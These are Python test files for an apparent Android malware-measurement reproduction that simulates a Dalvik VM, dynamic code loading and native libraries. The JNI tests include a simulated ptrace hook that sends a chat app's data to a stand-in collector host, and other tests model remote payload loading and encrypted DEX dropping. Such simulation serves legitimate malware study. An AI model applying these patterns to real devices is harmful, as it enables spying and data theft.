        one.record(0.01)
        two.record(5.0)
        two.record(200.0)
        merged = LatencyHistogram()
        merged.merge_dict(one.to_dict())
        merged.merge_dict(two.to_dict())
        assert merged.count == 3
        assert merged.max_s == 200.0
        assert merged.to_dict()["buckets"]["le_inf"] == 1


class TestMetricsRegistry:
    def test_counters_gauges_distinct(self):
        registry = MetricsRegistry()
        registry.counter("hits").inc()
        registry.counter("hits").inc(2)
        registry.gauge("depth").set(7.0)
        registry.distinct("digests").add("a")
        registry.distinct("digests").add("a")
        registry.distinct("digests").add("b")
        assert registry.counter_value("hits") == 3
        assert registry.counter_value("absent") == 0
        assert registry.distinct_count("digests") == 2

    def test_merge_is_order_independent(self):
        payloads = []
        for values in (("a", "b"), ("b", "c")):
            registry = MetricsRegistry()
            registry.counter("n").inc(len(values))
            registry.histogram("lat").record(0.5)
            for value in values:
                registry.distinct("seen").add(value)
            payloads.append(registry.to_dict())

        forward, backward = MetricsRegistry(), MetricsRegistry()
        for payload in payloads:
            forward.merge_dict(payload)
        for payload in reversed(payloads):
            backward.merge_dict(payload)
        assert forward.to_dict() == backward.to_dict()
        assert forward.counter_value("n") == 4
        assert forward.distinct_count("seen") == 3
        assert forward.histogram("lat").count == 2

    def test_serialized_registry_is_json_safe(self):
        registry = MetricsRegistry()
        registry.counter("c").inc()
        registry.histogram("h").record(1.0)
        registry.distinct("d").add("x")
        json.dumps(registry.to_dict())


class TestExport:
    def _sample_spans(self):
        tracer = Tracer()
        with tracer.span("app", package="com.a"):
            with tracer.span("decompile"):
                pass
        return tracer.to_dicts()

    def test_jsonl_roundtrip(self, tmp_path):
        spans = self._sample_spans()
        path = str(tmp_path / "trace.jsonl")
        write_trace(spans, path, fmt="jsonl")
        assert load_spans(path) == spans

    def test_chrome_events_are_well_formed(self, tmp_path):
        spans = self._sample_spans()
        path = str(tmp_path / "trace.json")
        write_trace(spans, path, fmt="chrome")
        payload = json.load(open(path))
        events = payload["traceEvents"]
        assert len(events) == len(spans)
        for event in events:
            for key in ("ph", "ts", "dur", "name", "pid", "tid"):
                assert key in event
            assert event["ph"] == "X"

    def test_chrome_roundtrip_preserves_structure(self, tmp_path):
        spans = self._sample_spans()
        path = str(tmp_path / "trace.json")
        write_trace(spans, path, fmt="chrome")
        loaded = load_spans(path)
        assert [s["name"] for s in loaded] == [s["name"] for s in spans]
        assert [s["span_id"] for s in loaded] == [s["span_id"] for s in spans]
        assert [s["parent_id"] for s in loaded] == [s["parent_id"] for s in spans]

    def test_unknown_format_rejected(self, tmp_path):
        with pytest.raises(ValueError):
            write_trace([], str(tmp_path / "x"), fmt="xml")


class TestMergeSpans:
    def test_reid_and_parent_remap(self):
        def shard_trace():
            tracer = Tracer()
            with tracer.span("app"):
                with tracer.span("decompile"):
                    pass
            return tracer.to_dicts()

        merged = merge_span_lists([(1, shard_trace()), (0, shard_trace())])
        assert [s["span_id"] for s in merged] == [1, 2, 3, 4]
        assert [s["tid"] for s in merged] == [0, 0, 1, 1]
        # parent links survive renumbering within each shard.
        assert merged[1]["parent_id"] == merged[0]["span_id"]
        assert merged[3]["parent_id"] == merged[2]["span_id"]
        # shard order, not argument order, decides placement.
        assert merged[0]["tid"] == 0


class TestSummary:
    def test_percentile_nearest_rank(self):
        values = [1.0, 2.0, 3.0, 4.0]
        assert _percentile(values, 0.50) == 2.0
        assert _percentile(values, 0.95) == 4.0
        assert _percentile([5.0], 0.50) == 5.0
        assert _percentile([], 0.50) == 0.0

    def test_stage_stats_orders_by_total(self):
        spans = [
            {"span_id": 1, "parent_id": 0, "name": "slow", "ts": 0.0, "dur": 3.0},
            {"span_id": 2, "parent_id": 0, "name": "fast", "ts": 0.0, "dur": 0.1},
            {"span_id": 3, "parent_id": 0, "name": "slow", "ts": 0.0, "dur": 1.0},
        ]
        stats = stage_stats(spans)
        assert [s.name for s in stats] == ["slow", "fast"]
        assert stats[0].count == 2
        assert stats[0].max_s == 3.0

    def test_render_summary(self):
        spans = [
            {"span_id": 1, "parent_id": 0, "name": "decompile", "ts": 0.0, "dur": 0.2},
        ]
        table = render_summary(spans)
        assert "stage" in table and "p95" in table and "decompile" in table
        assert render_summary([]) == "(empty trace)"

    def test_digest_line_names_top_stages_and_caches(self):
        spans = [
            {"span_id": 1, "parent_id": 0, "name": "app", "ts": 0.0, "dur": 3.2},
            {"span_id": 2, "parent_id": 1, "name": "dynamic", "ts": 0.0, "dur": 3.0},
            {"span_id": 3, "parent_id": 1, "name": "decompile", "ts": 3.0, "dur": 0.2},
            # engine internals must not compete with pipeline stages:
            {"span_id": 4, "parent_id": 2, "name": "engine.session", "ts": 0.0, "dur": 2.9},
        ]
        registry = MetricsRegistry()
        registry.counter("cache.detection.lookups").inc(10)
        registry.distinct("cache.detection.digests").add("d1")
        line = digest_line(spans, registry)
        assert "dynamic 3.00s" in line
        assert "engine.session" not in line
        assert "detection cache 9/10 hits" in line


class TestPipelineIntegration:
    @pytest.fixture(scope="class")
    def traced_run(self):
        corpus = generate_corpus(24, seed=7)
        tracer, registry = Tracer(), MetricsRegistry()
        dydroid = DyDroid(pipeline_config(), tracer=tracer, metrics=registry)
        report = dydroid.measure(corpus)
        return report, tracer.to_dicts(), registry

    def test_spans_nest_correctly(self, traced_run):
        _, spans, _ = traced_run
        assert spans, "pipeline produced no spans"
        seen = set()
        for span in spans:
            assert span["parent_id"] == 0 or span["parent_id"] in seen
            seen.add(span["span_id"])

    def test_stage_spans_present_per_app(self, traced_run):
        report, spans, _ = traced_run
        names = [s["name"] for s in spans]
        assert names.count("app") == report.n_total
        assert names.count("decompile") + names.count("obfuscation") >= report.n_total
        assert "engine.session" in names and "payload" in names

    def test_cache_counters_are_consistent(self, traced_run):
        _, _, registry = traced_run
        for kind in ("detection", "privacy"):
            lookups = registry.counter_value("cache.{}.lookups".format(kind))
            hits = registry.counter_value("cache.{}.hit".format(kind))
            misses = registry.counter_value("cache.{}.miss".format(kind))
            assert hits + misses == lookups
            summary = verdict_cache_summary(registry)[kind]
            assert summary["lookups"] == lookups
            assert summary["hits"] + summary["misses"] == lookups

    def test_stage_histograms_recorded(self, traced_run):
        report, _, registry = traced_run
        assert registry.histogram("stage.decompile").count == report.n_total
        assert registry.histogram("stage.prefilter").count >= 1

    def test_results_identical_with_and_without_tracing(self):
        corpus = generate_corpus(12, seed=11)
        plain = DyDroid(pipeline_config()).measure(corpus)
        traced = DyDroid(
            pipeline_config(), tracer=Tracer(), metrics=MetricsRegistry()
        ).measure(corpus)
        assert plain.render_all() == traced.render_all()


class TestFarmObservability:
    def _run(self, **kwargs):
        defaults = dict(
            n_apps=24, corpus_seed=7, workers=1, pipeline=pipeline_config(),
            backoff_s=0.0,
        )
        defaults.update(kwargs)
        return run_farm(FarmConfig(**defaults))

    def test_verdict_cache_metrics_shard_invariant(self):
        one = self._run(n_shards=1)
        four = self._run(n_shards=4)
        assert one.metrics["verdict_cache"] == four.metrics["verdict_cache"]
        hist_one = one.metrics["registry"]["histograms"]
        hist_four = four.metrics["registry"]["histograms"]
        assert set(hist_one) == set(hist_four)
        for name in hist_one:
            assert hist_one[name]["count"] == hist_four[name]["count"], name

    def test_spans_collected_only_when_tracing(self):
        untraced = self._run(n_shards=2)
        assert untraced.spans == []
        traced = self._run(n_shards=2, trace=True)
        assert traced.spans
        names = {span["name"] for span in traced.spans}
        assert {"farm.build", "app"} <= names
        seen = set()
        for span in traced.spans:
            assert span["parent_id"] == 0 or span["parent_id"] in seen
            seen.add(span["span_id"])

    def test_trace_structure_identical_across_workers(self):
        serial = self._run(n_shards=4, trace=True)
        pooled = self._run(n_shards=4, workers=2, trace=True)
        skeleton = lambda result: [  # noqa: E731
            (s["span_id"], s["parent_id"], s["name"], s["tid"])
            for s in result.spans
        ]
        assert skeleton(serial) == skeleton(pooled)


class TestObserveCli:
    def test_measure_trace_and_metrics_flags(self, capsys, tmp_path):
        from repro.cli import main

        trace_path = tmp_path / "trace.json"
        metrics_path = tmp_path / "metrics.json"
        assert main([
            "measure", "--apps", "10", "--seed", "7", "--train", "2",
            "--no-replays", "--table", "2",
            "--trace-out", str(trace_path), "--trace-format", "chrome",
            "--metrics-out", str(metrics_path),
        ]) == 0
        err = capsys.readouterr().err
        assert "[trace:" in err  # the on-by-default digest line
        payload = json.loads(trace_path.read_text())
        assert all(e["ph"] == "X" for e in payload["traceEvents"])
        metrics = json.loads(metrics_path.read_text())
        assert "stage.decompile" in metrics["histograms"]

    def test_farm_trace_out_and_trace_summary(self, capsys, tmp_path):
        from repro.cli import main

        trace_path = tmp_path / "farm.jsonl"
        assert main([
            "farm", "run", "--apps", "12", "--seed", "7", "--workers", "1",
            "--shards", "2", "--train", "2", "--no-replays", "--table", "2",
            "--trace-out", str(trace_path),
        ]) == 0
        capsys.readouterr()
        assert main(["trace", "summary", str(trace_path)]) == 0
        out = capsys.readouterr().out
        assert "stage" in out and "p95" in out and "farm.build" in out


class TestLatencyHistogramDeprecation:
    """The farm-side re-export now warns; the observe-side home does not."""

    def test_farm_metrics_import_warns(self):
        import repro.farm.metrics as farm_metrics
        from repro.observe.metrics import LatencyHistogram as canonical

        # The warning must hand the reader the exact replacement import
        # and the release the shim disappears in.
        with pytest.warns(
            DeprecationWarning,
            match="from repro.observe.metrics import LatencyHistogram",
        ) as captured:
            relocated = farm_metrics.LatencyHistogram
        assert relocated is canonical
        assert "removed in repro 2.0" in str(captured[0].message)

    def test_farm_package_import_warns(self):
        import repro.farm as farm
        from repro.observe.metrics import LatencyHistogram as canonical

        with pytest.warns(DeprecationWarning, match="repro.observe.metrics"):
            relocated = farm.LatencyHistogram
        assert relocated is canonical

    def test_unknown_attribute_still_raises(self):
        import repro.farm as farm
        import repro.farm.metrics as farm_metrics

        with pytest.raises(AttributeError):
            farm_metrics.NoSuchThing
        with pytest.raises(AttributeError):
            farm.NoSuchThing

    def test_observe_home_is_warning_free(self, recwarn):
        from repro.observe.metrics import LatencyHistogram

        LatencyHistogram().record(0.01)
        assert not [w for w in recwarn.list if w.category is DeprecationWarning]
