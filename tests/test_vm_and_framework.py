"""Tests for the Dalvik-style VM, framework APIs, class loaders, and JNI."""

import pytest

from repro.android import bytecode as bc
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp, MethodRef
from repro.android.dex import DexFile
from repro.android.nativelib import (
    INTRINSIC_DECRYPT_AND_LOAD,
    INTRINSIC_PTRACE_HOOK,
    NativeLibrary,
)
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException, VMObject
from repro.runtime.vm import BudgetExceededError, DalvikVM

from tests.helpers import (
    build_manifest,
    downloads_and_loads_app,
    local_loader_app,
    simple_payload_dex,
)


def make_vm(apk=None, instrumentation=None, device=None, budget=200_000):
    device = device or Device()
    vm = DalvikVM(device, instrumentation or Instrumentation(), instruction_budget=budget)
    if apk is not None:
        vm.install_app(apk)
    return vm


def single_method_apk(builder_fn, package="com.t.app", arity=1):
    """Build an APK whose MainActivity.onCreate body is emitted by builder_fn."""
    activity = "{}.MainActivity".format(package)
    builder = MethodBuilder("onCreate", activity, arity=arity)
    builder_fn(builder)
    builder.ret_void()
    cls = class_builder(activity, superclass="android.app.Activity")
    cls.add_method(builder.build())
    return Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])


def run_on_create(apk, **kwargs):
    vm = make_vm(apk, **kwargs)
    activity = "{}.MainActivity".format(apk.package)
    vm.run_entry(activity, "onCreate", [VMObject(activity)])
    return vm


class TestInterpreterBasics:
    def test_arithmetic_and_return(self):
        cls = class_builder("t.Math")
        builder = MethodBuilder("add", "t.Math", arity=2, is_static=True)
        result = builder.binop("add", builder.arg(0), builder.arg(1))
        builder.ret(result)
        cls.add_method(builder.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.Math", "add", [20, 22]) == 42

    def test_branching_loop(self):
        # sum 0..4 via a loop: exercises IF/GOTO/LABEL and BINOP.
        cls = class_builder("t.Loop")
        b = MethodBuilder("sum", "t.Loop", is_static=True)
        i = b.new_int(0)
        total = b.new_int(0)
        limit = b.new_int(5)
        one = b.new_int(1)
        b.label("head")
        b.if_cmp(Cmp.GE, i, limit, "done")
        b.emit(bc.binop("add", total, total, i))
        b.emit(bc.binop("add", i, i, one))
        b.goto("head")
        b.label("done")
        b.ret(total)
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.Loop", "sum", []) == 10

    def test_fields(self):
        cls = class_builder("t.F")
        b = MethodBuilder("roundtrip", "t.F", arity=1, is_static=True)
        value = b.new_int(7)
        b.put_field(value, b.arg(0), "t.F", "x")
        out = b.get_field(b.arg(0), "t.F", "x")
        b.ret(out)
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.F", "roundtrip", [VMObject("t.F")]) == 7

    def test_statics(self):
        cls = class_builder("t.S")
        b = MethodBuilder("roundtrip", "t.S", is_static=True)
        value = b.new_int(9)
        b.put_static(value, "t.S", "shared")
        out = b.get_static("t.S", "shared")
        b.ret(out)
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.S", "roundtrip", []) == 9

    def test_throw_propagates(self):
        cls = class_builder("t.Boom")
        b = MethodBuilder("go", "t.Boom", is_static=True)
        b.throw_new("java.lang.IllegalStateException")
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        with pytest.raises(VMException) as excinfo:
            vm.run_entry("t.Boom", "go", [])
        assert excinfo.value.class_name == "java.lang.IllegalStateException"

    def test_instruction_budget(self):
        cls = class_builder("t.Spin")
        b = MethodBuilder("forever", "t.Spin", is_static=True)
        b.label("again")
        b.goto("again")
        cls.add_method(b.build())
        vm = make_vm(budget=500)
        vm.load_dex(DexFile(classes=[cls]))
        with pytest.raises(BudgetExceededError):
            vm.run_entry("t.Spin", "forever", [])

    def test_divide_by_zero(self):
        cls = class_builder("t.Div")
        b = MethodBuilder("go", "t.Div", is_static=True)
        b.binop("div", b.new_int(1), b.new_int(0))
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        with pytest.raises(VMException) as excinfo:
            vm.run_entry("t.Div", "go", [])
        assert excinfo.value.class_name == "java.lang.ArithmeticException"

    def test_unknown_class_raises(self):
        vm = make_vm()
        with pytest.raises(VMException) as excinfo:
            vm.invoke(MethodRef("com.missing.Cls", "m", 0), [])
        assert excinfo.value.class_name == "java.lang.ClassNotFoundException"

    def test_unmodeled_framework_is_noop(self):
        vm = make_vm()
        assert vm.invoke(MethodRef("android.view.View", "invalidate", 0), []) is None

    def test_missing_label_is_verify_error(self):
        cls = class_builder("t.Bad")
        b = MethodBuilder("go", "t.Bad", is_static=True)
        b.goto("nowhere")
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        with pytest.raises(VMException) as excinfo:
            vm.run_entry("t.Bad", "go", [])
        assert excinfo.value.class_name == "java.lang.VerifyError"

    def test_null_field_access_is_npe(self):
        cls = class_builder("t.Npe")
        b = MethodBuilder("go", "t.Npe", is_static=True)
        null = b.new_null()
        b.get_field(null, "t.Npe", "x")
        cls.add_method(b.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[cls]))
        with pytest.raises(VMException) as excinfo:
            vm.run_entry("t.Npe", "go", [])
        assert excinfo.value.class_name == "java.lang.NullPointerException"

    def test_virtual_dispatch_prefers_subclass(self):
        base = class_builder("t.Base")
        b = MethodBuilder("who", "t.Base", arity=1)
        b.ret(b.new_int(1))
        base.add_method(b.build())
        sub = class_builder("t.Sub", superclass="t.Base")
        b2 = MethodBuilder("who", "t.Sub", arity=1)
        b2.ret(b2.new_int(2))
        sub.add_method(b2.build())
        vm = make_vm()
        vm.load_dex(DexFile(classes=[base, sub]))
        assert vm.invoke(MethodRef("t.Base", "who", 1), [VMObject("t.Sub")]) == 2

    def test_inherited_method_resolves_through_superclass(self):
        base = class_builder("t.Base2")
        b = MethodBuilder("greet", "t.Base2", arity=1)
        b.ret(b.new_string("hi"))
        base.add_method(b.build())
        sub = class_builder("t.Sub2", superclass="t.Base2")
        vm = make_vm()
        vm.load_dex(DexFile(classes=[base, sub]))
        assert vm.invoke(MethodRef("t.Sub2", "greet", 1), [VMObject("t.Sub2")]) == "hi"


class TestFrameworkApis:
    def test_system_time_follows_device_clock(self):
        def body(b):
            now = b.call_static("java.lang.System", "currentTimeMillis")
            b.call_void("android.util.Log", "d", b.new_string("t"), now)

        apk = single_method_apk(body)
        device = Device()
        device.config.system_time_ms = 12345
        vm = make_vm(apk, device=device)
        vm.run_entry("{}.MainActivity".format(apk.package), "onCreate", [VMObject("x")])
        assert device.logcat == ["t: 12345"]

    def test_telephony_identifiers(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            b.call_void("android.util.Log", "d", b.new_string("id"), imei)

        apk = single_method_apk(body)
        vm = run_on_create(apk)
        assert vm.device.logcat == ["id: {}".format(vm.device.config.imei)]

    def test_connectivity_reflects_airplane_mode(self):
        def body(b):
            cm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("connectivity")
            )
            info = b.call_virtual("android.net.ConnectivityManager", "getActiveNetworkInfo", cm)
            b.if_eqz(info, "offline")
            b.call_void("android.util.Log", "d", b.new_string("net"), b.new_string("online"))
            b.ret_void()
            b.label("offline")
            b.call_void("android.util.Log", "d", b.new_string("net"), b.new_string("offline"))

        apk = single_method_apk(body)
        device = Device()
        device.config.airplane_mode = True
        device.config.wifi_enabled = False
        vm = make_vm(apk, device=device)
        vm.run_entry("{}.MainActivity".format(apk.package), "onCreate", [VMObject("x")])
        assert device.logcat == ["net: offline"]

    def test_settings_provider(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            value = b.call_static(
                "android.provider.Settings$Secure", "getString", resolver, b.new_string("android_id")
            )
            b.call_void("android.util.Log", "d", b.new_string("aid"), value)

        apk = single_method_apk(body)
        vm = run_on_create(apk)
        assert vm.device.logcat[0].startswith("aid: 9774d56d")

    def test_content_resolver_query_and_cursor(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            uri = b.get_static("android.provider.ContactsContract$Contacts", "CONTENT_URI")
            cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
            b.label("loop")
            more = b.call_virtual("android.database.Cursor", "moveToNext", cursor)
            b.if_eqz(more, "done")
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("row"), row)
            b.goto("loop")
            b.label("done")

        apk = single_method_apk(body)
        vm = run_on_create(apk)
        assert len(vm.device.logcat) == 2  # two seeded contacts

    def test_sms_manager_records_messages(self):
        def body(b):
            sms = b.call_static("android.telephony.SmsManager", "getDefault")
            null = b.new_null()
            b.call_void(
                "android.telephony.SmsManager", "sendTextMessage",
                sms, b.new_string("+100"), null, b.new_string("hi"), null, null,
            )

        apk = single_method_apk(body)
        vm = run_on_create(apk)
        assert vm.device.sms_sent == [("+100", "hi")]

    def test_missing_url_raises_ioexception(self):
        def body(b):
            url = b.new_instance_of("java.net.URL", b.new_string("http://nohost.example/x"))
            b.call_virtual("java.net.URL", "openStream", url)

        apk = single_method_apk(body)
        with pytest.raises(VMException) as excinfo:
            run_on_create(apk)
        assert excinfo.value.class_name == "java.io.IOException"

    def test_malformed_url(self):
        def body(b):
            b.new_instance_of("java.net.URL", b.new_string("not a url"))

        apk = single_method_apk(body)
        with pytest.raises(VMException) as excinfo:
            run_on_create(apk)
        assert excinfo.value.class_name == "java.net.MalformedURLException"

    def test_write_without_external_permission_denied_post_kitkat(self):
        def body(b):
            b.new_instance_of("java.io.FileOutputStream", b.new_string("/mnt/sdcard/drop.jar"))

        activity = "com.t.app.MainActivity"
        builder = MethodBuilder("onCreate", activity, arity=1)
        body(builder)
        builder.ret_void()
        cls = class_builder(activity, superclass="android.app.Activity")
        cls.add_method(builder.build())
        manifest = build_manifest("com.t.app", permissions=set(), min_sdk=19)
        apk = Apk.build(manifest, dex_files=[DexFile(classes=[cls])])
        device = Device()
        device.config.api_level = 19
        vm = make_vm(apk, device=device)
        with pytest.raises(VMException) as excinfo:
            vm.run_entry(activity, "onCreate", [VMObject(activity)])
        assert "EACCES" in excinfo.value.message

    def test_reflection_method_invoke(self):
        def body(b):
            cls = b.call_static("java.lang.Class", "forName", b.new_string("com.t.app.MainActivity"))
            method = b.call_virtual("java.lang.Class", "getMethod", cls, b.new_string("helper"))
            b.call_void("java.lang.reflect.Method", "invoke", method, b.arg(0))

        activity = "com.t.app.MainActivity"
        builder = MethodBuilder("onCreate", activity, arity=1)
        body(builder)
        builder.ret_void()
        helper = MethodBuilder("helper", activity, arity=1)
        helper.call_void("android.util.Log", "d", helper.new_string("r"), helper.new_string("via-reflection"))
        helper.ret_void()
        cls = class_builder(activity, superclass="android.app.Activity")
        cls.add_method(builder.build())
        cls.add_method(helper.build())
        apk = Apk.build(build_manifest("com.t.app"), dex_files=[DexFile(classes=[cls])])
        vm = run_on_create(apk)
        assert vm.device.logcat == ["r: via-reflection"]


class TestDynamicCodeLoading:
    def test_remote_download_and_load(self):
        apk = downloads_and_loads_app()
        payload = simple_payload_dex()
        device = Device()
        device.network.host_resource("http://cdn.sdk-demo.com/payload.jar", payload.to_bytes())
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_dex_load(events.append)
        vm = make_vm(apk, instrumentation=instrumentation, device=device)
        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
        assert device.logcat == ["payload: loaded-code-ran"]
        assert len(events) == 1
        assert events[0].call_site == "com.example.demo.MainActivity"
        assert events[0].loader_kind == "DexClassLoader"

    def test_delete_blocked_for_loaded_file(self):
        apk = downloads_and_loads_app(delete_after=True)
        device = Device()
        device.network.host_resource(
            "http://cdn.sdk-demo.com/payload.jar", simple_payload_dex().to_bytes()
        )
        instrumentation = Instrumentation()
        vm = make_vm(apk, instrumentation=instrumentation, device=device)
        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
        assert device.vfs.exists("/data/data/com.example.demo/cache/payload.jar")
        assert instrumentation.blocked_ops[0].op == "delete"

    def test_delete_succeeds_when_blocking_disabled(self):
        apk = downloads_and_loads_app(delete_after=True)
        device = Device()
        device.network.host_resource(
            "http://cdn.sdk-demo.com/payload.jar", simple_payload_dex().to_bytes()
        )
        instrumentation = Instrumentation(block_file_ops=False)
        vm = make_vm(apk, instrumentation=instrumentation, device=device)
        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
        assert not device.vfs.exists("/data/data/com.example.demo/cache/payload.jar")

    def test_local_asset_load(self):
        apk, payload = local_loader_app()
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_dex_load(events.append)
        vm = make_vm(apk, instrumentation=instrumentation)
        vm.run_entry("com.example.localload.MainActivity", "onCreate", [VMObject("a")])
        assert vm.device.logcat == ["payload: loaded-code-ran"]
        assert events[0].dex_paths == ("/data/data/com.example.localload/cache/plugin.jar",)

    def test_system_paths_not_logged(self):
        def body(b):
            path = b.new_string("/system/lib/libwebviewchromium.so")
            null = b.new_null()
            b.new_instance_of("dalvik.system.PathClassLoader", path, null)

        apk = single_method_apk(body)
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_dex_load(events.append)
        run_on_create(apk, instrumentation=instrumentation)
        assert events == []

    def test_load_missing_dex_raises(self):
        def body(b):
            null = b.new_null()
            b.new_instance_of(
                "dalvik.system.DexClassLoader",
                b.new_string("/data/data/com.t.app/none.jar"),
                b.new_string("/data/data/com.t.app/odex"),
                null, null,
            )

        apk = single_method_apk(body)
        with pytest.raises(VMException) as excinfo:
            run_on_create(apk)
        assert excinfo.value.class_name == "java.io.FileNotFoundException"

    def test_odex_written_to_optimized_dir(self):
        apk, _ = local_loader_app()
        vm = make_vm(apk)
        vm.run_entry("com.example.localload.MainActivity", "onCreate", [VMObject("a")])
        assert vm.device.vfs.exists("/data/data/com.example.localload/cache/odex/plugin.odex")


class TestJni:
    def _native_app(self, intrinsics=None, lib_name="libdemo.so", body_fn=None):
        package = "com.t.native"
        activity = "{}.MainActivity".format(package)
        builder = MethodBuilder("onCreate", activity, arity=1)
        if body_fn is None:
            builder.call_void("java.lang.System", "loadLibrary", builder.new_string("demo"))
        else:
            body_fn(builder)
        builder.ret_void()
        cls = class_builder(activity, superclass="android.app.Activity")
        cls.add_method(builder.build())
        lib = NativeLibrary(name=lib_name, intrinsics=intrinsics or {})
        return Apk.build(
            build_manifest(package), dex_files=[DexFile(classes=[cls])], native_libs=[lib]
        )

    def test_load_library_emits_event(self):
        apk = self._native_app()
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_native_load(events.append)
        vm = make_vm(apk, instrumentation=instrumentation)
        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
        assert len(events) == 1
        assert events[0].lib_path == "/data/data/com.t.native/lib/libdemo.so"
        assert events[0].api == "loadLibrary"
        assert events[0].call_site == "com.t.native.MainActivity"

    def test_missing_library_unsatisfied_link(self):
        def body(b):
            b.call_void("java.lang.System", "loadLibrary", b.new_string("missing"))

        apk = single_method_apk(body)
        with pytest.raises(VMException) as excinfo:
            run_on_create(apk)
        assert excinfo.value.class_name == "java.lang.UnsatisfiedLinkError"

    def test_system_library_is_silent(self):
        def body(b):
            b.call_void("java.lang.System", "load", b.new_string("/system/lib/libc.so"))

        apk = single_method_apk(body)
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_native_load(events.append)
        run_on_create(apk, instrumentation=instrumentation)
        assert events == []

    def test_ptrace_hook_intrinsic_exfiltrates_when_victim_installed(self):
        apk = self._native_app(
            intrinsics={
                "JNI_OnLoad": {
                    "kind": INTRINSIC_PTRACE_HOOK,
                    "targets": ["com.tencent.mm"],
                    "url": "http://collector.example.net/chat",
                }
            }
        )
        device = Device()
        victim = Apk.build(build_manifest("com.tencent.mm"))
        device.install(victim)
        vm = make_vm(apk, device=device)
        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
        assert device.network.exfil_log == [
            ("http://collector.example.net/chat?victim=com.tencent.mm", 1024)
        ]

    def test_decrypt_intrinsic_drops_plain_dex(self):
        payload = simple_payload_dex("com.packed.Real")
        encrypted = payload.encrypt(bytes.fromhex("5a"))
        package = "com.t.native"
        dest = "/data/data/{}/files/plain.dex".format(package)
        apk = self._native_app(
            intrinsics={
                "JNI_OnLoad": {
                    "kind": INTRINSIC_DECRYPT_AND_LOAD,
                    "source": "asset:enc.bin",
                    "dest": dest,
                    "key_hex": "5a",
                }
            }
        )
        apk.add_asset("assets/enc.bin", encrypted)
        vm = make_vm(apk)
        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
        dropped = DexFile.from_bytes(vm.device.vfs.read(dest))
        assert dropped.class_named("com.packed.Real") is not None

    def test_runtime_load0(self):
        def body(b):
            runtime = b.call_static("java.lang.Runtime", "getRuntime")
            b.call_void(
                "java.lang.Runtime", "load0", runtime,
                b.new_string("/data/data/com.t.native/lib/libdemo.so"),
            )

        apk = self._native_app(body_fn=body)
        instrumentation = Instrumentation()
        events = []
        instrumentation.on_native_load(events.append)
        vm = make_vm(apk, instrumentation=instrumentation)
        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
        assert events[0].api == "load0"
