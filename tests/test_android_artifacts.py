"""Unit tests for repro.android: bytecode, DEX, native libs, manifest, APK."""

import pytest

from repro.android import bytecode as bc
from repro.android.apk import (
    ANTI_DECOMPILATION_ENTRY,
    ANTI_REPACKAGING_ENTRY,
    Apk,
    ApkFormatError,
)
from repro.android.builders import MethodBuilder, class_builder, empty_method
from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import (
    DexClass,
    DexField,
    DexFile,
    DexFormatError,
    DexMethod,
    is_dex_bytes,
    is_encrypted_dex_bytes,
)
from repro.android.manifest import (
    AndroidManifest,
    Component,
    ComponentKind,
    ManifestError,
    WRITE_EXTERNAL_STORAGE,
)
from repro.android.nativelib import (
    NativeBlock,
    NativeFormatError,
    NativeFunction,
    NativeInsn,
    NativeLibrary,
    NativeOp,
    is_native_bytes,
)

from tests.helpers import build_manifest, simple_payload_dex


class TestBytecode:
    def test_method_ref_str_and_package(self):
        ref = MethodRef("com.example.app.Main", "onCreate", 1)
        assert str(ref) == "com.example.app.Main.onCreate/1"
        assert ref.package == "com.example.app"

    def test_instruction_invoked_accessor(self):
        ref = MethodRef("a.B", "m", 0)
        insn = bc.invoke(ref)
        assert insn.is_invoke and insn.invoked == ref
        assert bc.const(0, 1).invoked is None

    def test_terminators(self):
        assert bc.ret_void().is_terminator
        assert bc.goto("L0").is_terminator
        assert bc.if_cmp(Cmp.EQ, 0, 1, "L0").is_terminator
        assert not bc.const(0, 5).is_terminator

    def test_instruction_render(self):
        insn = bc.invoke(MethodRef("a.B", "m", 2), 1, 2)
        assert "a.B.m/2" in str(insn)


class TestBuilders:
    def test_register_allocation_is_fresh(self):
        builder = MethodBuilder("m", "a.B", arity=2)
        r1, r2 = builder.reg(), builder.reg()
        assert r1 == 2 and r2 == 3  # params occupy 0..arity-1

    def test_arg_bounds(self):
        builder = MethodBuilder("m", "a.B", arity=1)
        assert builder.arg(0) == 0
        with pytest.raises(IndexError):
            builder.arg(1)

    def test_build_appends_terminator(self):
        builder = MethodBuilder("m", "a.B")
